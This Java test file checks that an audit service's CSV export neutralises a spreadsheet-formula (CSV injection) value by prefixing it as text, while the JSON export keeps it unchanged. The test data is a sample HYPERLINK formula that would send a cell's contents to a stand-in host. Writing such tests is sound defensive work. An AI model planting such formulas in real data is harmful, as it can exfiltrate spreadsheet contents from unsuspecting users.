package nl.dijkwacht.audit.query;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.List;
import nl.dijkwacht.support.TestPack;
import nl.dijkwacht.tenancy.TwoTenants;
import org.junit.jupiter.api.Test;

/**
 * The auditor's CSV export (ops27, OWASP "CSV injection"): a value that came from a tool or a staff member's account —
 * here the department a trusted tool declares — that starts like a spreadsheet formula ({@code =HYPERLINK(…)}) is a
 * text cell in the CSV (a leading {@code '}), and unchanged in the JSON export. Shares the tenancy tests' context.
 */
class AuditExportFormulaTest extends TwoTenants {

    static final String FORMULA = "=HYPERLINK(\"https://voorbeeld.invalid/?d=\"&A1,\"Klik hier\")";

    @Test
    void aFormulaFromAToolIsTextInTheCsvExport() throws Exception {
        HttpResponse<String> chat = postJson("/v1/chat/completions", chat("dry-run", "Hallo"), TestPack.TOOL_KEY,
                "X-Dijkwacht-User", "medewerker-csv", "X-Dijkwacht-Department", FORMULA);
        assertThat(chat.statusCode()).as(chat.body()).isEqualTo(200);
        String trace = chat.headers().firstValue("X-Dijkwacht-Trace-Id").orElseThrow();
        assertThat(auditRecord(trace).get("DEPARTMENT")).as("the record keeps what the tool sent").isEqualTo(FORMULA);

        HttpResponse<String> csv = getJson("/audit/v1/export.csv?trace_id=" + trace, TestPack.AUDITOR_KEY);
        assertThat(csv.statusCode()).isEqualTo(200);
        List<String> lines = csv.body().lines().toList();
        assertThat(lines).hasSize(2);
        int column = List.of(lines.get(0).split(",")).indexOf("department");
        assertThat(column).isPositive();
        // the department cell holds a comma and quotes: RFC 4180 quoted, with the leading ' inside the quotes
        assertThat(lines.get(1)).contains(",\"'=HYPERLINK(\"\"https://voorbeeld.invalid/?d=\"\"&A1,\"\"Klik hier\"\")\",");
        assertThat(lines.get(1)).doesNotContain(",=HYPERLINK").doesNotContain(",\"=HYPERLINK");

        HttpResponse<String> json = getJson("/audit/v1/export.json?trace_id=" + trace, TestPack.AUDITOR_KEY);
        assertThat(json.statusCode()).isEqualTo(200);
        assertThat(json.body()).as("JSON is no spreadsheet: the value as sent").contains("\"department\":" + write(FORMULA));
    }

    private static String write(String text) throws Exception {
        return json.writeValueAsString(text);
    }
}
